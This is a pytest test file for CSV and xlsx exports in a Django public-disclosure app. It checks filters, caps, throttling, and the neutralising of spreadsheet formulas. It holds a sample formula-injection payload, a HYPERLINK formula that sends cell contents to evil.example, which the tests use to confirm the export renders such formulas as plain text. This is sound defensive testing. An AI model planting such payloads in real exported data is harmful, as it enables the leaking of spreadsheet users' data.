"""CSV and xlsx exports of the public list and of search results: filters, cap, streaming, no formulas."""

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from disclosure import exports, services
from disclosure.models import Document
from tests.factories import OrganisationFactory

from .factories import DocumentFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'


def published(**kwargs):
    document = DocumentFactory(published=True, **kwargs)
    services.prepare(document)
    document.save()
    return document


def _csv(response):
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_csv_export_streams_the_filtered_public_list(client, django_assert_max_num_queries):
    org = OrganisationFactory()
    mine = [published(organisation=org, published_on=dt.date(2026, 1, d)) for d in (1, 2, 3)]
    published(title="别的机构的文件")
    DocumentFactory(organisation=org, title="草稿不应导出")
    with django_assert_max_num_queries(6):
        response = client.get(reverse("disclosure:export_csv"), {"organisation": org.pk, "sort": "old"})
        rows = _csv(response)
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    assert rows[0][0] == "标题"
    assert [r[0] for r in rows[1:]] == [d.title for d in mine]
    assert rows[1][-1] == "http://testserver" + mine[0].get_absolute_url()


def test_exports_are_capped(client, settings, monkeypatch):
    monkeypatch.setattr(exports, "EXPORT_CAP", 3)
    for _ in range(5):
        published()
    assert len(_csv(client.get(reverse("disclosure:export_csv")))) == 1 + 3
    book = load_workbook(io.BytesIO(client.get(reverse("disclosure:export_xlsx")).content))
    assert book.active.max_row == 1 + 3


def test_a_formula_title_comes_out_as_text_in_csv_and_xlsx(client):
    published(title=HYPERLINK, document_number="+86-537-0000", topic="@SUM(1,2)")
    csv_rows = _csv(client.get(reverse("disclosure:export_csv")))
    assert csv_rows[1][0] == "'" + HYPERLINK
    assert csv_rows[1][1] == "'+86-537-0000" and csv_rows[1][6] == "'@SUM(1,2)"

    data = client.get(reverse("disclosure:export_xlsx")).content
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere
    cell = load_workbook(io.BytesIO(data)).active["A2"]
    assert cell.value == HYPERLINK and cell.data_type == "s" and cell.quotePrefix


def test_search_export_has_the_results_in_order(client):
    published(title="关于低保标准的通知")
    published(title="关于义务教育招生的通知")
    rows = _csv(client.get(reverse("disclosure:search_csv"), {"q": "低保"}))
    assert [r[0] for r in rows[1:]] == ["关于低保标准的通知"]
    book = load_workbook(io.BytesIO(client.get(reverse("disclosure:search_xlsx"), {"q": "低保"}).content))
    assert [c.value for c in book.active["A"]] == ["标题", "关于低保标准的通知"]
    assert len(_csv(client.get(reverse("disclosure:search_csv")))) == 1  # no query: headings only


def test_list_and_search_pages_link_the_exports_with_the_current_filters(client):
    org = OrganisationFactory()
    published(organisation=org, title="低保通知")
    page = client.get(reverse("disclosure:list"), {"organisation": org.pk, "after": "2026-01-01.1"}).content.decode()
    assert f'{reverse("disclosure:export_csv")}?organisation={org.pk}"' in page
    search = client.get(reverse("disclosure:search"), {"q": "低保"}).content.decode()
    assert reverse("disclosure:search_xlsx") + "?q=%E4%BD%8E%E4%BF%9D" in search


def test_exports_of_the_seeded_demo_hold_nothing_non_public(client):
    call_command("seed_demo", stdout=io.StringIO())
    public = Document.objects.public()
    assert public.count() < exports.EXPORT_CAP
    rows = _csv(client.get(reverse("disclosure:export_csv")))
    assert len(rows) == 1 + public.count()
    exported = "\n".join(",".join(row) for row in rows)
    public_titles = set(public.values_list("title", flat=True))
    for document in Document.objects.exclude(pk__in=public):
        if not any(document.title in title for title in public_titles):
            assert document.title not in exported
    searched = _csv(client.get(reverse("disclosure:search_csv"), {"q": "内部"}))
    assert all(row[0] in public_titles for row in searched[1:])


def test_exports_are_throttled_per_client(client, settings):
    settings.GONGKAI_EXPORTS_PER_HOUR = 2
    url = reverse("disclosure:export_csv")
    assert [client.get(url).status_code for _ in range(2)] == [200, 200]
    refused = client.get(reverse("disclosure:search_xlsx"), {"q": "低保"})
    assert refused.status_code == 429 and "导出过于频繁" in refused.content.decode()
    assert client.get(url, REMOTE_ADDR="10.0.0.7").status_code == 200
